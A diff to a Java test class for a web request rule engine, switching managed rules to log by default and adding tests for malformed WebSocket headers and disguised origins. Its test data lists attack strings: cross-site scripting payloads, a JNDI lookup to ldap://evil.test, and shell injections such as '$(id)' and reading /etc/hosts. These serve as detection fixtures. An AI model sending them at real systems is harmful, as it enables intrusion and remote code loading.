@@ -72,14 +72,17 @@ class ManagedRulesTest {
         "/chat?q=%253Cimg%20src=x%20onerror=alert(1)%253E|script-injection",
         "/chat?u=JavaScript:alert(1)|script-injection",
         "/chat?u=javascript:location=name|script-injection",
-        "/chat?x=onload=y|script-injection",
+        "/chat?x=%22%20onload=y|script-injection",
         "/chat?q=$%7Bjndi:ldap://evil.test/a%7D|command-injection",
         "/chat?q=;cat%20/etc/hosts;|command-injection",
         "/chat?q=$(id)|command-injection",
         "/chat?q=%7B%7B7*7%7D%7D|command-injection",
       })
-  void attacksInTheTargetAreBlocked(String target, String rule) {
-    assertThat(blocks(Asked.of(target))).isEqualTo("managed/" + rule + " 403");
+  void attacksInTheTargetAreToldAndCanBeBlocked(String target, String rule) {
+    assertThat(blocks(Asked.of(target))).isEmpty();
+    assertThat(logged).extracting(Match::rule).containsExactly("managed/" + rule);
+    assertThat(blocks(Asked.of(target), with(rule, RuleAction.BLOCK).build()))
+        .isEqualTo("managed/" + rule + " 403");
   }
 
   @Test
@@ -93,6 +96,12 @@ class ManagedRulesTest {
     assertThat(blocks(good.with("authorization", "a").with("authorization", "b")))
         .isEqualTo("managed/duplicate-header 400");
     assertThat(blocks(good.with("sec-websocket-protocol", "chat, <b>")))
+        .isEqualTo("managed/malformed-handshake 400");
+    assertThat(
+            blocks(
+                good.with("sec-websocket-protocol", "chat")
+                    .with("sec-websocket-protocol", "b <b>")))
+        .as("on whatever line")
         .isEqualTo("managed/malformed-handshake 400");
     assertThat(blocks(good.with("origin", "not a page")))
         .isEqualTo("managed/malformed-handshake 400");
@@ -124,6 +133,13 @@ class ManagedRulesTest {
     assertThat(blocks(own, strict)).isEmpty();
     assertThat(blocks(Asked.of("/").with("origin", "https://app.test"), strict)).isEmpty();
     assertThat(blocks(Asked.of("/"), strict)).as("no browser").isEmpty();
+    for (String disguised :
+        List.of(
+            "https://evil.test@shop.test.evil.test", "https://shop.test@evil.test", "file://")) {
+      assertThat(blocks(Asked.of("/").with("origin", disguised), strict))
+          .as(disguised)
+          .isEqualTo("managed/cross-site 403");
+    }
   }
 
   @Test
@@ -131,8 +147,8 @@ class ManagedRulesTest {
     Asked asked = Asked.of("/?q=$(id)");
     assertThat(blocks(asked, with("command-injection", RuleAction.OFF_DUTY).build())).isEmpty();
     assertThat(logged).isEmpty();
-    assertThat(blocks(asked, with("command-injection", RuleAction.LOG).build())).isEmpty();
-    assertThat(logged).hasSize(1);
+    assertThat(blocks(asked, with("command-injection", RuleAction.BLOCK).build()))
+        .isEqualTo("managed/command-injection 403");
   }
 
   private static HandshakeRules.Builder with(String id, RuleAction action) {
